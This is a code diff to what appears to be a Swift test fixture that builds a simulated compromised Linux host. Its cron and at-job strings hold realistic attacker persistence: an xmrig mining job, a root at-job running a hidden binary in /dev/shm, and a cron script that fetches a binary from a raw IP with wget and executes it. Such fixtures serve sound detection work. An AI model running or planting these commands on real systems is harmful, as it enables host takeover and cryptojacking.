@@ -260,6 +260,11 @@ enum HostTrees {
             "*/5 * * * * /usr/bin/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level=1\n"
         )
         try root.write(
+            "/var/spool/cron/atjobs/a0000101b2c3d4",
+            "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || {\n\t exit 1\n}\n/dev/shm/.x/run -B\n",
+            mode: 0o700
+        )
+        try root.write(
             "/etc/cron.hourly/sync",
             "#!/bin/sh\npkill -f kinsing\nwget -q -O /var/tmp/.x http://185.10.68.3/x && chmod +x /var/tmp/.x && "
                 + "/var/tmp/.x\n",
